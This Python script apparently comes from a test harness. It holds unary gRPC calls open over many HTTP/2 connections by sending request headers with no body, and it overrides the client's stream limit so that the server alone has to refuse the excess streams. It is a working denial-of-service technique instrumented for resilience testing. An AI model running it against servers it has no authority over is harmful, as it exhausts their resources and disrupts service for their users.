#!/usr/bin/env python3
"""attack_unary.py: hold unary gRPC calls open without their message.

Opens CONNS TLS connections (ALPN h2, no client certificate) to HOST:PORT,
and on each sends STREAMS HEADERS frames for the given paths (round robin)
with no DATA and no END_STREAM, then a PING. It writes STATUS_FILE once
every connection has the server's SETTINGS, the ack of ours and the ack of
the PING sent after the HEADERS (so the server has read every HEADERS
frame), then holds the connections until SIGTERM, reading (and answering)
whatever the server sends. On SIGTERM it rewrites STATUS_FILE with the final
counts and exits 0.

STATUS_FILE is one JSON object: opened (streams sent), settings (connections
with the server's SETTINGS), acked (connections whose PING came back),
max_streams (the server's SETTINGS_MAX_CONCURRENT_STREAMS, null if none),
reset (streams the server reset or refused), answered (streams the server
answered with headers), closed (connections the server closed), held (opened
- reset - answered), final (false while holding).

  attack_unary.py HOST PORT CA CONNS STREAMS STATUS_FILE PATH...
"""
import json
import signal
import socket
import ssl
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.settings


class Unlimited(h2.connection.H2Connection):
    """A client that ignores the server's SETTINGS_MAX_CONCURRENT_STREAMS
    (h2 enforces it on our side): the server must refuse the extra streams
    itself."""

    @property
    def open_outbound_streams(self):
        return 0


class Conn:
    def __init__(self, host, port, ctx):
        raw = socket.create_connection((host, port), timeout=30)
        self.sock = ctx.wrap_socket(raw, server_hostname=host)
        if self.sock.selected_alpn_protocol() != "h2":
            raise SystemExit("no h2 in ALPN")
        cfg = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
        self.h2 = Unlimited(config=cfg)
        self.h2.initiate_connection()
        self.flush()
        self.settings = self.settings_acked = self.ping_acked = False
        self.max_streams = None
        self.reset = self.answered = 0
        self.closed = False
        self.streams = []

    def flush(self):
        data = self.h2.data_to_send()
        if data:
            self.sock.sendall(data)

    def open(self, authority, path):
        sid = self.h2.get_next_available_stream_id()
        self.h2.send_headers(sid, [
            (":method", "POST"), (":scheme", "https"), (":path", path),
            (":authority", authority), ("content-type", "application/grpc"),
            ("te", "trailers"), ("grpc-timeout", "300S"),
        ], end_stream=False)
        self.streams.append(sid)
        self.flush()

    def pump(self, timeout):
        if self.closed:
            return
        self.sock.settimeout(timeout)
        try:
            data = self.sock.recv(65536)
        except (socket.timeout, ssl.SSLWantReadError):
            return
        except OSError:
            self.closed = True
            return
        if not data:
            self.closed = True
            return
        for ev in self.h2.receive_data(data):
            if isinstance(ev, h2.events.RemoteSettingsChanged):
                self.settings = True
                ms = ev.changed_settings.get(h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS)
                if ms is not None:
                    self.max_streams = ms.new_value
            elif isinstance(ev, h2.events.SettingsAcknowledged):
                self.settings_acked = True
            elif isinstance(ev, h2.events.PingAckReceived):
                self.ping_acked = True
            elif isinstance(ev, h2.events.StreamReset):
                self.reset += 1
            elif isinstance(ev, h2.events.ResponseReceived):
                self.answered += 1
            elif isinstance(ev, h2.events.ConnectionTerminated):
                self.closed = True
        try:
            self.flush()
        except OSError:
            self.closed = True


def status(conns, opened, final):
    reset = sum(c.reset for c in conns)
    answered = sum(c.answered for c in conns)
    ms = [c.max_streams for c in conns if c.max_streams is not None]
    return {
        "opened": opened,
        "settings": sum(1 for c in conns if c.settings and c.settings_acked),
        "acked": sum(1 for c in conns if c.ping_acked),
        "max_streams": min(ms) if ms else None,
        "reset": reset,
        "answered": answered,
        "closed": sum(1 for c in conns if c.closed),
        "held": opened - reset - answered,
        "final": final,
    }


def write(path, obj):
    with open(path + ".tmp", "w") as f:
        json.dump(obj, f)
    import os
    os.replace(path + ".tmp", path)


def main():
    host, port, ca, nconn, nstream, out = sys.argv[1:7]
    paths = sys.argv[7:]
    ctx = ssl.create_default_context(cafile=ca)
    ctx.check_hostname = False
    ctx.set_alpn_protocols(["h2"])
    stop = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(1))
    conns = [Conn(host, int(port), ctx) for _ in range(int(nconn))]
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline and not all(c.settings and c.settings_acked for c in conns):
        for c in conns:
            c.pump(0.1)
    opened = 0
    for c in conns:
        for i in range(int(nstream)):
            c.open(f"{host}:{port}", paths[opened % len(paths)])
            opened += 1
        c.h2.ping(b"attack!!")
        c.flush()
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline and not all(c.ping_acked or c.closed for c in conns):
        for c in conns:
            c.pump(0.1)
    write(out, status(conns, opened, False))
    while not stop:
        for c in conns:
            c.pump(0.2)
        write(out, status(conns, opened, False))
    write(out, status(conns, opened, True))


if __name__ == "__main__":
    main()
